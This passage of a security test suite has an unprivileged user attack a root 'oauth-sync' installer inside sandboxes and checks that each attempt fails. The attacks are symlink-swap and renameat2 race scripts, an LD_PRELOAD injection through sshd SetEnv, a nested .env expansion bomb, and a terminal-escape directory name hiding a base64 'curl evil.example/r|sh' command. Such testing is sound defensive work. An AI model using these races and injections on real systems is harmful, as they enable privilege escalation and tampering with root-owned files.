  beforeAll(() => {
    mkdirSync(roothome(), { mode: 0o700 });
    // A systemctl that answers for nothing: install and uninstall here never reach the host's managers.
    mkdirSync(join(base, "fakes"), { mode: 0o755 });
    writeFileSync(join(base, "fakes/systemctl"), "#!/bin/sh\nexit 0\n", { mode: 0o755 });
    writeFileSync(join(base, "fakes/systemd-analyze"), "#!/bin/sh\nexit 0\n", { mode: 0o755 });
    writeFileSync(join(base, "fakes/loginctl"), "#!/bin/sh\necho yes\n", { mode: 0o755 });
  });

  attack("the temp file swapped for a link while install copies the binary into a user's bin dir: a root-only file keeps its mode", async () => {
    const secret = join(base, "root/push.key");
    writeFileSync(secret, "root-only key\n", { mode: 0o600 });
    const binDir = join(base, "mallory/bin");
    asMallory(`mkdir -p ${binDir} ${base}/mallory/rcfg`);
    const swaps = join(base, "log/swaps");
    // As mallory: every temp file that appears in the bin dir is replaced by a link to root's key, as fast as possible.
    const swapper = spawn("sh", ["-c", `while :; do for f in ${binDir}/.oauth-sync.*.tmp; do [ -e "$f" ] || continue; rm -f "$f" && ln -s ${secret} "$f" && echo x >> ${swaps}; done; done`], { uid, gid, stdio: "ignore" });
    try {
      const config = writeConfig("receiver-bin", { source: "push", stateDir: join(base, "mallory/rstate"), targets: [{ kind: "env-file", path: join(base, "mallory/rcv.env") }] });
      for (let i = 0; i < 3; i++) {
        rmSync(join(binDir, "oauth-sync"), { force: true });
        await asRootAt(["install", "--receiver", "--login", MALLORY, "--bin-dir", binDir, "--config-path", join(base, "mallory/rcfg/config.json"), "--config", config, "--yes"]);
        expect(modeOf(secret)).toBe(0o600);
        expect(statSync(secret).uid).toBe(0);
        expect(readFileSync(secret, "utf8")).toBe("root-only key\n");
      }
    } finally {
      swapper.kill("SIGKILL");
    }
    expect(existsSync(swaps)).toBe(true); // the swap was really played
  }, 120_000);

  attack("uninstall --purge of a state dir whose parent a user swapped for a link: root's tree of the same name survives", async () => {
    mkdirSync(join(base, "root/st/data"), { recursive: true, mode: 0o700 });
    writeFileSync(join(base, "root/st/data/keep.txt"), "root's\n", { mode: 0o600 });
    // What an earlier release's manifest could say: a state dir it accepted inside a user's directory.
    const state = join(base, "mallory/st/data");
    asMallory(`mkdir -p ${state}`);
    const manifestDir = join(roothome(), ".local/state/oauth-sync");
    mkdirSync(manifestDir, { recursive: true, mode: 0o700 });
    writeFileSync(join(manifestDir, "install.json"), JSON.stringify({ version: "0.1.0", binary: join(roothome(), ".local/bin/oauth-sync"), configPath: join(roothome(), ".config/oauth-sync/config.json"), stateDir: state, units: [], user: true }));
    asMallory(`rm -rf ${base}/mallory/st && ln -s ${base}/root/st ${base}/mallory/st`);
    const result = await asRootAt(["uninstall", "--user", "--purge"]);
    expect(readFileSync(join(base, "root/st/data/keep.txt"), "utf8")).toBe("root's\n");
    expect(result.code).toBe(8);
    expect(result.output).toContain("symbolic link");
  });

  attack("a FIFO at the config path does not hang install --dry-run", async () => {
    const fifo = join(base, "root/fifocfg/config.json");
    mkdirSync(join(base, "root/fifocfg"), { mode: 0o700 });
    spawnSync("mkfifo", [fifo]);
    const result = await asRootAt(["install", "--user", "--dry-run", "--yes", "--no-test", "--config", prepared("fifo"), "--config-path", fifo], {}, 20_000);
    expect(result.code).toBe(8); // not killed by the timeout
    expect(result.output).toContain("FIFO");
  });

  attack("a nested-default bomb in a user's compose .env is refused in bounded time (no docker compose here)", async () => {
    mkdirSync(join(base, "nocompose"), { mode: 0o755 });
    writeFileSync(join(base, "nocompose/docker"), "#!/bin/sh\necho \"docker: 'compose' is not a docker command.\" >&2\nexit 1\n", { mode: 0o755 });
    const project = join(base, "mallory/proj");
    asMallory(`mkdir -p ${project}/state`);
    writeFileSync(join(project, "docker-compose.yml"), "services:\n  openclaw-gateway:\n    image: ghcr.io/openclaw/openclaw:2026.5.28\n    volumes:\n      - ${OPENCLAW_CONFIG_DIR}:/home/node/.openclaw\n");
    for (const kb of [300, 1200]) {
      const levels = Math.floor((kb * 1000) / 7);
      writeFileSync(join(project, ".env"), `OPENCLAW_CONFIG_DIR=${"${X:-".repeat(levels)}${project}/state${"}".repeat(levels)}\n`);
      spawnSync("chown", ["-R", `${uid}:${gid}`, project]);
      const started = performance.now();
      const result = await asRootAt(["install", "--user", "--dry-run", "--yes", "--no-test", "--trigger", "none", "--credentials", rootCredentials(), "--project-dir", project], { PATH: `${base}/nocompose:${base}/fakes:${base}/bin:/usr/local/bin:/usr/bin:/bin` }, 25_000);
      console.log(`.env of ${kb} KB with nested defaults: install --dry-run ended in ${((performance.now() - started) / 1000).toFixed(2)} s (exit ${result.code})`);
      expect(result.code).toBe(2);
      expect(result.output).toMatch(/\.env: \$\{…\} nested deeper than 32 levels \(.*\): refused/);
    }
  }, 120_000);

  attack("SetEnv LD_PRELOAD and OAUTH_SYNC_CONFIG through a real sshd that accepts them: install --receiver warns, receive starts clean", async () => {
    const { createBed } = await import("../support/ssh-bed.ts");
    const bed = await createBed({ one: true });
    try {
      const r = bed.receivers[0]!; // root's receiver, PermitRootLogin forced-commands-only
      appendFileSync(join(r.dir, "sshd_config"), "AcceptEnv LANG LC_* LD_PRELOAD LD_DEBUG OAUTH_SYNC_CONFIG\n");
      const key = join(bed.root, "holder_ed25519");
      spawnSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", key]);
      const prepared = join(bed.root, "prepared.json");
      writeFileSync(prepared, r.configText, { mode: 0o600 });
      const args = ["install", "--receiver", "--config", prepared, "--config-path", r.configPath, "--bin-dir", bed.bin, "--login", "root", "--authorized-key", readFileSync(`${key}.pub`, "utf8").trim(), "--authorized-keys-file", r.authorizedKeys, "--yes"];
      // sshd -T reads /etc/ssh/sshd_config: in a mount namespace of its own that file is this receiver's, the host's stays as it is.
      const quoted = args.map((a) => `'${a}'`).join(" ");
      const install = spawnSync("unshare", ["-m", "sh", "-c", `mount --bind ${r.dir}/sshd_config /etc/ssh/sshd_config && exec ${bin} ${quoted}`], { encoding: "utf8", env: { PATH: `${base}/fakes:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin`, HOME: "/root" } });
      expect(install.status, install.stdout + install.stderr).toBe(0);
      expect(install.stderr).toContain("sshd accepts the variable(s) LD_PRELOAD, LD_DEBUG, OAUTH_SYNC_CONFIG from clients (AcceptEnv)");
      expect(readFileSync(r.authorizedKeys, "utf8")).toContain(`command="/usr/bin/env -i PATH=`);
      await r.start();
      // The key holder sends a library to preload, another config, and LD_DEBUG=files: ld.so then names every program it
      // starts with these variables (the login's shell and whatever its rc files run, env), and must never name oauth-sync.
      const ssh = spawnSync(
        "ssh",
        ["-F", "none", "-i", key, "-p", String(r.port), "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", "-o", "SetEnv=LD_PRELOAD=/nonexistent/oauth-sync-evil.so LD_DEBUG=files OAUTH_SYNC_CONFIG=/nonexistent/evil.json", "-T", `root@${r.address}`, "anything"],
        { input: `${JSON.stringify({ v: 1, kind: "probe" })}\n`, encoding: "utf8", timeout: 30_000 },
      );
      expect(ssh.stdout).toContain('"status":"probe"'); // receive read its own, named config
      expect(ssh.stderr).toContain("needed by /usr/bin/env"); // the variables did reach the forced command's shell
      expect(ssh.stderr).toContain("LD_PRELOAD cannot be preloaded");
      expect(ssh.stderr).not.toContain(join(bed.bin, "oauth-sync")); // receive itself started from a clean environment
    } finally {
      await bed.cleanup();
    }
  }, 120_000);

  attack("300 agent directories and names with ESC and a newline in a user's OpenClaw: odd names skipped and said so, 8 proposed, nothing fails", async () => {
    const state = join(base, "mallory/oc/.openclaw");
    asMallory(`mkdir -p ${state}/agents && cd ${state}/agents && for i in $(seq -w 1 300); do mkdir -p a$i/agent; done`);
    writeFileSync(join(state, "openclaw.json"), JSON.stringify({ meta: { lastTouchedVersion: "2026.5.28" } }));
    const odd = ["evil\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcnxzaA==\u0007", "two\nlines", "\u001b[2Kfake"];
    for (const name of odd) mkdirSync(join(state, "agents", name));
    spawnSync("chown", ["-R", `${uid}:${gid}`, join(base, "mallory/oc")]);
    const result = await asRootAt(["install", "--user", "--dry-run", "--yes", "--no-test", "--trigger", "none", "--credentials", rootCredentials(), "--openclaw-dir", state]);
    expect(result.code, result.output).toBe(0);
    expect(result.output).not.toContain("\u001b");
    expect(result.output).not.toContain("two\nlines");
    expect(result.output).toContain("skipped agent name(s)");
    expect(result.output).toContain("--max-agents 300");
    const config = JSON.parse(result.output.slice(result.output.indexOf("config to install:\n") + 19, result.output.indexOf("\n}\n") + 2));
    expect(config.targets).toHaveLength(8);
  }, 60_000);
});

describe("attacks on a root install's places (a booted systemd: install gets past its pre-flight there)", () => {
  let box: SystemdContainer | undefined;
  const EVIL = "oauthsync-evil"; // made inside the container only
  const inside = async (script: string) => {
    const result = await box!.exec(["sh", "-c", script]);
    if (result.code !== 0) throw new Error(`${script}: exit ${result.code}\n${result.stdout}${result.stderr}`);
    return result.stdout.trim();
  };
  const put = (path: string, text: string, mode: number) => {
    mkdirSync(join(box!.root, path, ".."), { recursive: true });
    writeFileSync(join(box!.root, path), text, { mode });
  };

  beforeAll(async () => {
    box = await bootSystemd("oauth-sync-attacks-places");
    await box.copyIn(bin, "/root/oauth-sync");
    await box.copyIn(process.execPath, "/usr/local/bin/bun-attacker"); // the attacker's own renameat2 (bun:ffi)
    await inside(`useradd -m ${EVIL} && chmod 755 /home/${EVIL}`);
    put("/etc/canary.conf", canaryText, 0o644);
    put("/root/.claude/.credentials.json", credentialsJson(fakeToken(), Date.now() + 8 * HOUR), 0o600);
    put("/root/prepared.json", JSON.stringify({ credentials: "/root/.claude/.credentials.json", trigger: { mode: "none" }, targets: [{ kind: "env-file", path: "/root/t/.env" }] }), 0o600);
  }, 300_000);

  afterAll(async () => {
    await box?.stop();
  });

  attack("the config path swapped with a link to root's file (renameat2 RENAME_EXCHANGE) during install: refused before any chmod", async () => {
    const dir = `/home/${EVIL}/cfgdir`;
    await inside(`runuser -u ${EVIL} -- sh -c 'mkdir -p ${dir} && echo "{}" > ${dir}/config.json && chmod 644 ${dir}/config.json && ln -s /etc/canary.conf ${dir}/evil'`);
    put(
      `/home/${EVIL}/exchange.ts`,
      `import { dlopen, FFIType } from "bun:ffi";
const libc = dlopen("libc.so.6", { renameat2: { args: [FFIType.i32, FFIType.ptr, FFIType.i32, FFIType.ptr, FFIType.u32], returns: FFIType.i32 } });
const [a, b] = [Buffer.from("${dir}/config.json\\0"), Buffer.from("${dir}/evil\\0")];
const end = Date.now() + 15_000;
let n = 0;
while (Date.now() < end) if (libc.symbols.renameat2(-100, a, -100, b, 2) === 0) n++;
require("node:fs").writeFileSync("/tmp/exchanges", String(n));
`,
      0o644,
    );
    // As the user, in the background for 15 s: config.json and a link to root's canary change places all the time.
    await inside(`runuser -u ${EVIL} -- sh -c 'cd /home/${EVIL} && nohup /usr/local/bin/bun-attacker exchange.ts >/dev/null 2>&1 &'`);
    for (let i = 0; i < 5; i++) {
      const result = await box!.exec(["/root/oauth-sync", "install", "--yes", "--no-test", "--config", "/root/prepared.json", "--config-path", `${dir}/config.json`]);
      expect(result.code, result.stdout + result.stderr).toBe(8);
      expect(result.stderr).toContain(`belongs to ${EVIL}`);
      expect(await inside("stat -c '%a %U' /etc/canary.conf")).toBe("644 root");
    }
    for (let i = 0; i < 200 && (await box!.exec(["test", "-f", "/tmp/exchanges"])).code !== 0; i++) await Bun.sleep(100);
    expect(Number(await inside("cat /tmp/exchanges"))).toBeGreaterThan(0); // the swap was really played
    expect(readFileSync(join(box!.root, "etc/canary.conf"), "utf8")).toBe(canaryText);
    expect(await inside("test -e /etc/systemd/system/oauth-sync.service || echo none")).toBe("none"); // nothing installed
  }, 120_000);

  attack("a bin dir the user owns, for units that run as root: refused before anything is made there", async () => {
    await inside(`runuser -u ${EVIL} -- mkdir -p /home/${EVIL}/bin`);
    const result = await box!.exec(["/root/oauth-sync", "install", "--yes", "--no-test", "--config", "/root/prepared.json", "--bin-dir", `/home/${EVIL}/bin`]);
    expect(result.code, result.stdout + result.stderr).toBe(8);
    expect(result.stderr).toContain(`--bin-dir /home/${EVIL}/bin belongs to ${EVIL}`);
    expect(await inside(`ls -A /home/${EVIL}/bin`)).toBe("");
    expect(await inside("test -e /etc/oauth-sync/config.json || echo none")).toBe("none");
  }, 60_000);
});
